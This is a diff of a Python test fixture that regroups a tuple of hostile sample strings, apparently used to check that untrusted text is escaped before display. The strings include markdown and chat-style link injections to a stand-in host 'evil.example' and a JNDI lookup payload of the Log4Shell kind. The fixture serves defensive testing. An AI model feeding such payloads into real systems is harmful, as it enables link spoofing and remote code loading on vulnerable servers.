@@ -12,11 +12,8 @@ ADDRESS = "https://news.example.org/articles/42/"
 JOINER = "\u2060"
 
 HOSTILE = (
-    "x [free](https://evil.example)",
-    "x [free](<https://evil.example> 'title')",
-    "[a]: https://evil.example",
-    "x](https://evil.example) [y",
-    "![picture](https://evil.example/a.png)",
+    *("x [free](https://evil.example)", "x [free](<https://evil.example> 'title')", "[a]: https://evil.example"),
+    *("x](https://evil.example) [y", "![picture](https://evil.example/a.png)"),
     "[![p](https://evil.example/a.png)](https://evil.example)",
     *("\\[free\\](https://evil.example)", "\\\\[free](https://evil.example)"),
     *("<https://evil.example|free>", "<https://evil.example>", "<mailto:mallory@evil.example|write>"),
@@ -36,11 +33,8 @@ HOSTILE = (
     *("# heading", "-# small", "> quoted", ">>> quoted", "- item", "+ item", "* item", "1. item"),
     *("--- a ===", "#hashtag ~channel", "snake_case_name a_nn ann__", "¯\\_(ツ)_/¯"),
     *("| a | b |", "a\nb\r\n# c\u2028- d\tx"),
-    "{{.Title}} ${jndi:ldap://evil.example} %(name)s %s",
-    "Actions: view, free, https://evil.example",
-    "ends with \\",
-    "ends with https:",
-    "你好，[世界](https://evil.example)",
+    *("{{.Title}} ${jndi:ldap://evil.example} %(name)s %s", "Actions: view, free, https://evil.example"),
+    *("ends with \\", "ends with https:", "你好，[世界](https://evil.example)"),
 )
 
 
